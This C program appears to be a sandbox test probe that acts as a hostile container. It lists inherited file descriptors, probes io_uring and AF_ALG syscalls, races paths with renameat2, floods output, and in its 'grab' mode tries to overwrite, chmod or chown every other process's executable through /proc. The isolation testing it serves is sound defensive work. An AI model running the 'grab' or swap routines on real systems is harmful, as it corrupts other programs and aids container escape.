/* What a hostile container would try; each form says what it found or managed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* Open descriptors, before anything else has been done. */
static int list_descriptors(void) {
    for (int fd = 0; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            printf("%d ", fd);
    printf("\n");
    return 0;
}

static void say(const char *name, long result) {
    printf("%s=%d\n", name, result < 0 ? errno : 0);
}

static int kernel_surface(void) {
    char parameters[256] = {0};
    say("io_uring_setup", syscall(SYS_io_uring_setup, 4, parameters));
    say("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0));
    say("io_uring_register", syscall(SYS_io_uring_register, -1, 0, NULL, 0));
    say("af_alg", socket(38, SOCK_SEQPACKET, 0));
    say("af_inet", socket(AF_INET, SOCK_STREAM, 0));
    return 0;
}

/* Exchanges two names for as long as it runs. */
static int swap(const char *one, const char *other) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) != 0)
            return 1;
}

static int flood(long bytes) {
    static char block[65536];
    memset(block, 'x', sizeof block);
    while (bytes > 0) {
        ssize_t done = write(1, block, bytes < (long)sizeof block ? (size_t)bytes : sizeof block);
        if (done < 0)
            return 1;
        bytes -= done;
    }
    return 0;
}

/* Tries to spoil every program that runs here and is not this one. */
static int grab(int seconds) {
    int seen = 0, changed = 0;
    char path[64], own[256] = {0}, other[256];
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0)
        return 1;
    for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%.16s/exe", entry->d_name);
            memset(other, 0, sizeof other);
            if (readlink(path, other, sizeof other - 1) < 0 || strncmp(other, "/bin", 4) == 0 ||
                strcmp(other, own) == 0)
                continue;
            seen++;
            int fd = open(path, O_WRONLY);
            if (fd >= 0 && write(fd, "#!/evil", 7) > 0)
                changed++;
            if (fd >= 0)
                close(fd);
            if (chmod(path, 0) == 0 || chown(path, 1, 1) == 0)
                changed++;
        }
        if (all)
            closedir(all);
    }
    printf("seen=%s changed=%d\n", seen ? "some" : "none", changed);
    return 0;
}

int main(int argc, char **argv) {
    const char *form = argc > 1 ? argv[1] : "";
    if (strcmp(form, "fds") == 0)
        return list_descriptors();
    if (strcmp(form, "calls") == 0)
        return kernel_surface();
    if (strcmp(form, "swap") == 0 && argc > 3)
        return swap(argv[2], argv[3]);
    if (strcmp(form, "flood") == 0 && argc > 2)
        return flood(atol(argv[2]));
    if (strcmp(form, "grab") == 0 && argc > 2)
        return grab(atoi(argv[2]));
    return 2;
}
